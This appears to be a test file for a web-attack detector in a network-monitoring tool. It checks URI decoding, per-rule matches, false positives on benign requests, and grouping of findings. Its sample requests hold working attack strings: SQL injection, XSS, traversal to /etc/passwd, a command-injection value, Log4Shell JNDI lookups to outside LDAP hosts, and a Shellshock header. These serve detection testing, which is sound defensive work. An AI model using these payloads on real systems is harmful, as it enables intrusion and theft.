import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect } from 'chai';
import { matchWebAttack, normaliseUri, WEB_ATTACK_RULES, WebAttackDetector } from '../../../../src/detect/detectors/web-attack.js';
import type { FlowHttp } from '../../../../src/native/flow-record.js';
import { makeFlow } from '../flow-factory.js';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..', '..', '..');
const ids = (uri: string | null, userAgent: string | null = 'Mozilla/5.0'): string[] => matchWebAttack({ uri, userAgent }).map((r) => r.id);

const request = (uri: string, userAgent = 'Mozilla/5.0', over: Partial<FlowHttp> = {}): FlowHttp => ({
  method: 'GET',
  host: 'shop.example',
  uri,
  userAgent,
  status: 200,
  requests: 1,
  ...over,
});

describe('detect/detectors/web-attack', () => {
  describe('normaliseUri()', () => {
    it('reads + as a space, decodes twice, lower-cases, and survives bad escapes', () => {
      expect(normaliseUri('/a?q=1%27+UNION+Select')).to.equal("/a?q=1' union select");
      expect(normaliseUri('/%252e%252e%252fetc')).to.equal('/../etc');
      expect(normaliseUri('/x?y=%E0%A4%A%27')).to.equal("/x?y=%e0%a4%a'");
    });
  });

  describe('matchWebAttack(): each rule on a request it is written for, none on ordinary requests', () => {
    const cases: Array<[string, string, string?]> = [
      ['sqli_union_select', '/item.php?id=-1+UNION+ALL+SELECT+1,2,3'],
      ['sqli_quote_tautology', "/login?user=admin'+or+'1'='1"],
      ['sqli_quote_comment', "/login?user=admin'--+&pass=x"],
      ['sqli_functions', '/item?id=1+and+sleep(5)'],
      ['xss_script_tag', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E'],
      ['xss_event_handler', '/search?q=<img src=x onerror=alert(1)>'],
      ['xss_javascript_uri', '/go?next=javascript:alert(document.domain)'],
      ['path_traversal', '/download?file=..%2F..%2F..%2Fsecret.txt'],
      ['os_file_access', '/view?page=/etc/passwd'],
      ['command_injection', '/ping?host=127.0.0.1;cat+/etc/hosts'],
      ['log4shell_lookup', '/', '${jndi:ldap://198.51.100.7:1389/a}'],
      ['log4shell_jndi_url', '/', 'jndi:ldap://172.16.238.11:1389/a'],
      ['shellshock', '/cgi-bin/status', '() { :; }; /bin/bash -c "id"'],
      ['scanner_user_agent', '/', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
    ];
    for (const [id, uri, ua] of cases) {
      it(`${id}: ${ua ?? uri}`, () => {
        expect(ids(uri, ua ?? 'Mozilla/5.0')).to.include(id);
      });
    }

    it('every rule has a case above', () => {
      expect(WEB_ATTACK_RULES.map((r) => r.id)).to.have.members(cases.map((c) => c[0]));
    });

    it('ordinary requests match nothing', () => {
      const benign = [
        '/',
        '/index.html?q=1&r=2',
        "/search?q=o'brien+and+sons",
        '/wiki/SQL_injection',
        '/api/v1/items?select=id,name&order=union_date',
        '/blog/2024/01/how-to-cat-a-file',
        '/static/app.js?v=3.1.4',
        '/redirect?url=https%3A%2F%2Fexample.com%2Fpath',
        '/img/../logo.png',
        '/search?q=script+tags+explained',
        '/api?cmd=status&id=7',
      ];
      for (const uri of benign) expect(ids(uri), uri).to.deep.equal([]);
      expect(ids('/', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36')).to.deep.equal([]);
      expect(ids(null, null)).to.deep.equal([]);
    });
  });

  it('docs/detection.md lists every rule id with its source', () => {
    const doc = readFileSync(path.join(ROOT, 'docs', 'detection.md'), 'utf8');
    for (const r of WEB_ATTACK_RULES) expect(doc, r.id).to.match(new RegExp(`\\| \`${r.id}\` \\| ${r.kind} \\|`));
  });

  describe('WebAttackDetector#observe()', () => {
    it('one finding per client and service with the matched rules, counts and examples; severity of the worst rule', () => {
      const d = new WebAttackDetector(100);
      const flows = [
        makeFlow({ srcIp: '203.0.113.9', dstIp: '10.0.0.5', dstPort: 8080, http: request("/p?id=1'+or+1=1--") }),
        makeFlow({ srcIp: '203.0.113.9', dstIp: '10.0.0.5', dstPort: 8080, http: request('/', '${jndi:ldap://203.0.113.9/x}') }),
        makeFlow({ srcIp: '203.0.113.9', dstIp: '10.0.0.5', dstPort: 8080, http: request('/ok') }),
        makeFlow({ srcIp: '10.0.0.7', dstIp: '10.0.0.5', dstPort: 80, http: request('/fine') }),
      ];
      const out = d.observe(flows);
      expect(out).to.have.length(1);
      const [f] = out;
      expect(f).to.deep.include({
        category: 'web_attack',
        severity: 'critical',
        srcIp: '203.0.113.9',
        dstIp: '10.0.0.5',
        dstPort: 8080,
        target: '10.0.0.5:8080/6',
        threatIp: '203.0.113.9',
        count: 2,
      });
      expect(f!.details).to.deep.include({
        kinds: ['sqli', 'log4shell'],
        requests: 2,
        rules: { sqli_quote_tautology: 1, log4shell_lookup: 1, log4shell_jndi_url: 1 },
      });
      expect((f!.details['examples'] as Array<{ uri: string }>).map((e) => e.uri)).to.deep.equal(["/p?id=1'+or+1=1--", '/']);
      // The next batch reports only its own requests, with the totals in details.
      const [g] = d.observe([makeFlow({ srcIp: '203.0.113.9', dstIp: '10.0.0.5', dstPort: 8080, http: request('/x?f=../../../etc/passwd') })]);
      expect(g).to.deep.include({ count: 1 });
      expect(g!.details).to.include({ requests: 3 });
    });

    it('keeps clients, servers and ports apart (IPv4 and IPv6), in the order of their first match; forgets the least recent', () => {
      const d = new WebAttackDetector(3);
      const attack = (srcIp: string, dstIp: string, dstPort: number): ReturnType<typeof makeFlow> =>
        makeFlow({ srcIp, dstIp, dstPort, http: request('/?q=<script>alert(1)</script>') });
      const out = d.observe([
        attack('2001:db8::9', '10.0.0.5', 80),
        attack('203.0.113.9', '10.0.0.5', 80),
        attack('203.0.113.9', '10.0.0.5', 8080),
        attack('2001:db8::9', '10.0.0.5', 80),
        attack('203.0.113.9', '10.0.0.6', 80),
      ]);
      const view = (f: (typeof out)[number]): unknown[] => [f.srcIp, f.dstIp, f.dstPort, f.count, f.details['requests']];
      // Four keys past a cap of three: the least recently seen (the first IPv4 one) is forgotten with its finding.
      expect(out.map(view)).to.deep.equal([
        ['2001:db8::9', '10.0.0.5', 80, 2, 2],
        ['203.0.113.9', '10.0.0.5', 8080, 1, 1],
        ['203.0.113.9', '10.0.0.6', 80, 1, 1],
      ]);
      expect(d.observe([attack('203.0.113.9', '10.0.0.5', 80), attack('2001:db8::9', '10.0.0.5', 80)]).map(view)).to.deep.equal([
        ['203.0.113.9', '10.0.0.5', 80, 1, 1],
        ['2001:db8::9', '10.0.0.5', 80, 1, 3],
      ]);
    });

    it('ignores snapshots (the finished flow is judged once) and flows without HTTP', () => {
      const d = new WebAttackDetector(100);
      expect(d.observe([makeFlow({ endReason: 'snapshot', http: request('/?q=<script>') }), makeFlow({ http: null })])).to.deep.equal([]);
    });
  });
});
